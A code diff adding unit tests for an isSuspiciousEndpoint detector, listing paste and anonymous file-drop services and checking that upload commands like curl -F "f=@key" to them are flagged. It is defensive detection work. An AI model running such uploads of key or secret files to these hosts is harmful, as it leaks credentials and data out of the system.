@@ -21,3 +21,16 @@ describe('network endpoints', () => {
     expect(isSuspiciousEndpoint('https://registry.npmjs.org/left-pad')).toBe(false);
   });
 });
+
+describe('paste and anonymous file-drop hosts', () => {
+  it('names the paste services and file drops that stolen files are uploaded to', () => {
+    for (const url of ['https://paste.rs/', 'http://ix.io', 'https://sprunge.us', 'https://bpa.st/api/v1/paste', 'https://catbox.moe/user/api.php', 'https://litterbox.catbox.moe/resources/internals/api.php', 'https://store1.gofile.io/uploadFile', 'https://bashupload.com/', 'https://tmpfiles.org/api/v1/upload', 'https://oshi.at']) {
+      expect(isSuspiciousEndpoint(`curl -F "f=@key" ${url}`)).toBe(true);
+    }
+  });
+  it('leaves look-alike words and file names alone', () => {
+    for (const text of ['https://matrix.io/docs', 'bash ./scripts/temp.sh', 'https://six.io', 'https://catboxmoe.example.org']) {
+      expect(isSuspiciousEndpoint(text)).toBe(false);
+    }
+  });
+});
